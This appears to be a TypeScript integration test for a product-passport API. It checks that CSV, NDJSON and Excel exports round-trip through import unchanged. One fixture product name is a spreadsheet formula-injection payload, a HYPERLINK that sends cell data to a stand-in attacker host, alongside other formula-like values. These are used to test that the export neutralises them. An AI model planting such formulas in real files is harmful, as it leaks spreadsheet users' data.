import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { beforeAll, describe, expect, it } from 'vitest';
import { call, newOrg, type TestOrg } from '../support/api.ts';
import { createProduct, publish } from '../support/fixtures.ts';
import { eventually } from '../support/queues.ts';

/**
 * Export → import round trip (docs/import-export.md): the CSV export of one organization, imported
 * into a fresh one, exports byte for byte the same; imported again into the first, it changes
 * nothing. Everything goes through HTTP, and `call()` checks every answer against the OpenAPI
 * document.
 */

interface ImportJob {
  id: string;
  status: 'queued' | 'running' | 'succeeded' | 'failed';
  counts: { rows: number; created: number; updated: number; unchanged: number; failed: number };
  errors: { row: number; column: string; message: string }[];
}

/** Products with passports as varied as the columns allow: every product field, every kind of passport field, text that CSV must quote. */
/** A wine's full nutrition declaration: a wine publishes only with all of it (docs/labelling.md#the-nutrition-declaration). */
const WINE_DECLARATION = { energyKj: 318, energyKcal: 76, fatG: 0, saturatedFatG: 0, carbohydratesG: 2.6, sugarsG: 0.6, proteinG: 0.1, saltG: 0.01, alcoholG: 9.5 };

const PRODUCTS: { product: Record<string, unknown>; passports: Record<string, unknown>[] }[] = [
  {
    product: {
      name: 'Riesling Kabinett 2023',
      category: 'wine',
      brand: 'Weingut Beispiel',
      sku: 'RK-2023-075',
      economicOperatorId: 'DE123456789012345',
      facilityId: '4006381000017',
      commodityCode: '22042111',
      granularity: 'batch',
    },
    passports: [
      {
        productType: 'wine',
        colour: 'white',
        vintage: 2023,
        // Vocabulary entries, translated text and free text side by side (code:{code} and JSON: docs/import-export.md)
        ingredients: ['grapes', { code: 'sulphur-dioxide' }, 'E220 (sulphites)', 'Preservative: sulphites', { code: 'tartaric-acid' }, { text: { de: 'Eichenholzchips', en: 'Oak chips, "toasted"' } }, 'Acidity regulator (tartaric acid)'],
        nutrition: { energyKj: 318, energyKcal: 76, fatG: 0, saturatedFatG: 0, carbohydratesG: 2.6, sugarsG: 0.6, proteinG: 0.1, saltG: 0.01, alcoholG: 9.5 },
        allergens: { containsSulphites: true, containsEgg: false, containsFish: false, containsMilk: false },
        origin: { country: 'DE', region: 'Mosel', designation: 'Mosel PDO' },
        producers: [
          { name: 'Weingut Beispiel', role: 'producer', country: 'DE' },
          { name: 'Abfüllung Müller GmbH', role: 'bottler', country: 'DE' },
        ],
      },
    ],
  },
  {
    // No passport at all, no optional product field
    product: { name: 'Gift box, empty', category: 'food' },
    passports: [],
  },
  {
    // Text CSV has to quote: commas, double quotes, accents
    product: { name: 'Château "Exemple", Cuvée Spéciale', category: 'wine', brand: 'Maison Exemple & Fils', commodityCode: '220421', granularity: 'model' },
    passports: [
      { productType: 'wine', colour: 'red', vintage: 2019, ingredients: ['Grapes', 'Sulphites, as preservative'], nutrition: WINE_DECLARATION },
      // The current version is the second one: the export carries it
      {
        productType: 'wine',
        colour: 'red',
        vintage: 2020,
        ingredients: ['grapes', 'Sulphites, as preservative', 'Oak "chips"'],
        nutrition: WINE_DECLARATION,
        origin: { country: 'FR', region: 'Bordeaux', designation: 'AOC Bordeaux Supérieur' },
      },
    ],
  },
  {
    // More producers than the template's three: the export adds their columns
    product: { name: 'Blend of four estates', category: 'wine', sku: 'BLEND-4', granularity: 'item', economicOperatorId: 'FR12345678901' },
    passports: [
      {
        colour: 'rose',
        // A product of category wine is a wine whatever its productType: its declaration is whole (docs/labelling.md#which-products-are-wine).
        nutrition: WINE_DECLARATION,
        producers: [
          { name: 'Estate One', role: 'producer', country: 'IT' },
          { name: 'Estate Two', role: 'producer' },
          { name: 'Bottling Co', role: 'bottler', country: 'AT' },
          { name: 'Import House', role: 'importer', country: 'DE' },
        ],
      },
    ],
  },
  {
    // Passport fields only partly filled, decimal figures and a zero
    product: { name: 'Organic apple juice', category: 'food', brand: 'Orchard', facilityId: '4006381000017' },
    passports: [
      {
        productType: 'food',
        ingredients: ['Apple juice from concentrate'],
        nutrition: { energyKj: 197.5, carbohydratesG: 11, sugarsG: 10.25, fatG: 0 },
        allergens: { containsMilk: false },
      },
    ],
  },
  {
    product: { name: 'Merino jumper', category: 'textile', sku: 'MJ-01', commodityCode: '6110111000' },
    passports: [{ productType: 'textile', origin: { country: 'NZ' }, producers: [{ name: 'Knitters Ltd', role: 'manufacturer', country: 'PT' }] }],
  },
  {
    // Text a spreadsheet would run as a formula: the CSV export neutralises it with a quote, the import removes it again
    product: { name: '=HYPERLINK("http://evil.example/?d="&A1,"Click")', category: 'wine', brand: '+1', sku: '-x' },
    passports: [
      {
        productType: 'wine',
        ingredients: ['@SUM(1+1)', 'grapes', '-x'],
        nutrition: WINE_DECLARATION,
        origin: { country: 'FR', region: "'=already", designation: "''+twice" },
        producers: [{ name: '@SUM(A1:A9)', role: 'producer' }],
      },
    ],
  },
  {
    // Tabs and carriage returns at the start (stored trimmed), a quote before plain text (kept as written)
    product: { name: '\tfoo', category: 'food', brand: '\rbar', sku: "'plain" },
    passports: [{ productType: 'food', ingredients: ['\tfoo', "'=already"], origin: { region: '-5', designation: "'tis" } }],
  },
];

/** A page size smaller than the catalogue, so that export comes in several pages. */
const PAGE = 2;

/** Every page of the CSV export (`limit` rows a page), following `Link: <…>; rel="next"`. */
async function exportPages(key: string, limit?: number, format: 'csv' | 'ndjson' = 'csv'): Promise<string[]> {
  const pages: string[] = [];
  let path: string | undefined = `/v1/exports/products?format=${format}${limit ? `&limit=${limit}` : ''}`;
  while (path) {
    const response: Awaited<ReturnType<typeof call>> = await call('GET', path, { key });
    expect(response.status, response.text).toBe(200);
    expect(response.headers.get('content-type')).toMatch(format === 'csv' ? /^text\/csv/ : /^application\/x-ndjson/);
    pages.push(response.text);
    const next: string | undefined = /<([^>]+)>\s*;\s*rel="?next"?/.exec(response.headers.get('link') ?? '')?.[1];
    path = next ? ((url) => `${url.pathname}${url.search}`)(new URL(next, 'http://localhost')) : undefined;
    expect(pages.length).toBeLessThanOrEqual(PRODUCTS.length);
  }
  return pages;
}

const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';

/** The CSV's rows as an Excel workbook, every cell text (as a user keeps GTINs and codes). */
async function workbookOf(csv: string): Promise<Buffer> {
  const workbook = new ExcelJS.Workbook();
  const sheet = workbook.addWorksheet('Products');
  for (const row of parse(csv, { bom: true }) as string[][]) sheet.addRow(row);
  sheet.eachRow((row) => row.eachCell((cell) => (cell.numFmt = '@')));
  return Buffer.from(await workbook.xlsx.writeBuffer());
}

async function runImport(key: string, file: string | Buffer, contentType = 'text/csv'): Promise<ImportJob> {
  const body = typeof file === 'string' ? Buffer.from(file, 'utf8') : file;
  const started = await call<{ id: string; status: string }>('POST', '/v1/imports', { key, rawBody: body, headers: { 'content-type': contentType } });
  expect(started.status, started.text).toBe(202);
  expect(started.body.id).toMatch(/^imp_/);
  return eventually(
    async () => {
      const job = await call<ImportJob>('GET', `/v1/imports/${started.body.id}`, { key });
      expect(job.status, job.text).toBe(200);
      return job.body.status === 'queued' || job.body.status === 'running' ? undefined : job.body;
    },
    60_000,
    `import ${started.body.id} to finish`,
  );
}

/** Each product's number of passport versions, by GTIN (what a re-import must not add to). */
async function versionsByGtin(key: string): Promise<Map<string, number>> {
  const list = await call<{ data: { productId: string; gtin: string }[] }>('GET', '/v1/products?limit=100', { key });
  expect(list.status, list.text).toBe(200);
  const versions = new Map<string, number>();
  for (const product of list.body.data) {
    const history = await call<{ data: { version: number }[] }>('GET', `/v1/products/${product.productId}/passports?limit=100`, { key });
    versions.set(product.gtin, history.status === 200 ? history.body.data.length : 0);
  }
  return versions;
}

const succeeded = (counts: Partial<ImportJob['counts']>, rows = PRODUCTS.length) => ({
  status: 'succeeded',
  counts: { rows, created: 0, updated: 0, unchanged: 0, failed: 0, ...counts },
  errors: [],
});

describe('CSV export → import round trip', () => {
  let source: TestOrg;
  let exported: string;

  beforeAll(async () => {
    // Prepare: the catalogue, created and published through the API in the source organization
    source = await newOrg('Round Trip Source Winery');
    for (const { product, passports } of PRODUCTS) {
      const created = await createProduct(source.live, product);
      for (const data of passports) await publish(source.live, created.productId, data);
    }
    const pages = await exportPages(source.live);
    expect(pages).toHaveLength(1);
    exported = pages[0] ?? '';
  }, 120_000);

  it('exports every product under the template’s header, with a column for each producer', () => {
    // Assess
    const lines = exported.split('\r\n');
    expect(lines[0]).toMatch(/^gtin,name,category,brand,sku,economicOperatorId,facilityId,commodityCode,granularity,passport\./);
    expect(lines[0]).toContain(',passport.producers.4.name,passport.producers.4.role,passport.producers.4.country');
    expect(exported).toContain('"Château ""Exemple"", Cuvée Spéciale"');
    // CSV doubles the quotes inside the quoted cell
    // Formula starts neutralised with one more quote, and quoted (docs/import-export.md#export)
    expect(exported).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&A1,""Click"")",wine,"'+1","'-x",`);
    expect(exported).toContain(`"'@SUM(1+1)|grapes|-x"`);
    expect(exported).toContain(`"''=already","'''+twice"`);
    expect(exported).toContain(`,foo,food,bar,'plain,`);
    expect(exported).toContain(`foo|'=already,`);
    expect(exported).toContain(`"'-5",'tis,`);
    expect(exported).toContain('grapes|code:sulphur-dioxide|E220 (sulphites)|Preservative: sulphites|code:tartaric-acid|{""text"":{""de"":""Eichenholzchips"",""en"":""Oak chips, \\""toasted\\""""}}|Acidity regulator (tartaric acid)');
  });

  it('imports the export into a fresh organization, whose export is byte-identical', { timeout: 120_000 }, async () => {
    // Prepare
    const target = await newOrg('Round Trip Target Winery');

    // Act
    const job = await runImport(target.live, exported);
    const again = await exportPages(target.live);

    // Assess
    expect(job).toMatchObject(succeeded({ created: PRODUCTS.length }));
    expect(again).toEqual([exported]);
  });

  it('imports a paged export page by page into a fresh organization, whose export has byte-identical pages', { timeout: 120_000 }, async () => {
    // Prepare: pages of PAGE rows; each is a complete CSV file (its own header row)
    const pages = await exportPages(source.live, PAGE);
    expect(pages).toHaveLength(Math.ceil(PRODUCTS.length / PAGE));
    const target = await newOrg('Round Trip Paged Target Winery');

    // Act
    const jobs: ImportJob[] = [];
    for (const page of pages) jobs.push(await runImport(target.live, page));
    const again = await exportPages(target.live, PAGE);

    // Assess
    for (const job of jobs) expect(job).toMatchObject(succeeded({ created: PAGE }, PAGE));
    expect(again).toEqual(pages);
  });

  it('imports the NDJSON export into a fresh organization, whose NDJSON and CSV exports are byte-identical', { timeout: 120_000 }, async () => {
    // Prepare
    const lines = await exportPages(source.live, undefined, 'ndjson');
    expect(lines).toHaveLength(1);
    const target = await newOrg('Round Trip NDJSON Target Winery');

    // Act
    const job = await runImport(target.live, lines[0] ?? '', 'application/x-ndjson');

    // Assess
    expect(job).toMatchObject(succeeded({ created: PRODUCTS.length }));
    expect(await exportPages(target.live, undefined, 'ndjson')).toEqual(lines);
    expect(await exportPages(target.live)).toEqual([exported]);
  });

  it('imports the CSV export saved as an Excel workbook into a fresh organization, whose export is byte-identical', { timeout: 120_000 }, async () => {
    // Prepare
    const workbook = await workbookOf(exported);
    const target = await newOrg('Round Trip XLSX Target Winery');

    // Act
    const job = await runImport(target.live, workbook, XLSX);

    // Assess
    expect(job).toMatchObject(succeeded({ created: PRODUCTS.length }));
    expect(await exportPages(target.live)).toEqual([exported]);
  });

  it('re-importing the export into the source organization reports every row unchanged and publishes no version', { timeout: 120_000 }, async () => {
    // Prepare
    const before = await versionsByGtin(source.live);
    expect([...before.values()].reduce((sum, n) => sum + n, 0)).toBe(PRODUCTS.reduce((sum, p) => sum + p.passports.length, 0));

    // Act
    const job = await runImport(source.live, exported);

    // Assess
    expect(job).toMatchObject(succeeded({ unchanged: PRODUCTS.length }));
    expect(await versionsByGtin(source.live)).toEqual(before);
    expect(await exportPages(source.live)).toEqual([exported]);
  });
});
